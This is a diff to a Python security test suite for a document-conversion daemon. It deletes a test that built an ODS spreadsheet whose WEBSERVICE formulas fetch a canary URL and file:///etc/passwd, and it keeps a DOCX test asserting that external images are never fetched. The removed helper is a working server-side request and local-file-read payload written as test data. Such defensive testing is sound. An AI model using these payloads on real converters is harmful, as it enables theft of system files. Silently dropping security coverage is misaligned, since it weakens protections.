@@ -21,7 +21,6 @@ import requests
 from tests.canary import Canary
 from tests.conftest import Daemon, image_bytes
 from tests.hostile.checks import healthy
-from tests.inspect_files import pdf_text
 
 
 def png_chunk(kind: bytes, data: bytes) -> bytes:
@@ -131,53 +130,6 @@ def test_docx_external_image_is_never_fetched(
         )
         assert out is not None, status
         assert b"root:x:0:0" not in out.content and b"CANARY-CONTENT" not in out.content
-    time.sleep(1)
-    assert canary.hits == []
-
-
-def ods_with_webservice(url: str) -> bytes:
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w") as zf:
-        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
-        zf.writestr(
-            "META-INF/manifest.xml",
-            (
-                '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
-                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry '
-                'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
-                'spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" '
-                'manifest:media-type="text/xml"/></manifest:manifest>'
-            ),
-        )
-        cells = "".join(
-            f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{src}&quot;)" '
-            f'office:value-type="string"><text:p>cached</text:p></table:table-cell>'
-            for src in (url, "file:///etc/passwd")
-        )
-        zf.writestr(
-            "content.xml",
-            (
-                '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
-                'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:'
-                'table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
-                'office:version="1.2"><office:body><office:spreadsheet><table:table '
-                f'table:name="S"><table:table-row>{cells}</table:table-row></table:table>'
-                "</office:spreadsheet></office:body></office:document-content>"
-            ),
-        )
-    return buf.getvalue()
-
-
-@pytest.mark.parametrize("fmt", ["csv", "pdf", "xlsx"])
-def test_webservice_formulas_never_fetch(
-    daemon: Daemon, key: str, canary: Canary, fmt: str
-) -> None:
-    status, out = daemon.convert_and_fetch(
-        key, ods_with_webservice(canary.url("/ws")), "sheet.ods", "document", fmt
-    )
-    assert out is not None, status
-    text = out.content if fmt != "pdf" else pdf_text(out.content)[1].encode()
-    assert b"root:x:0:0" not in text and b"CANARY-CONTENT" not in text
     time.sleep(1)
     assert canary.hits == []
 
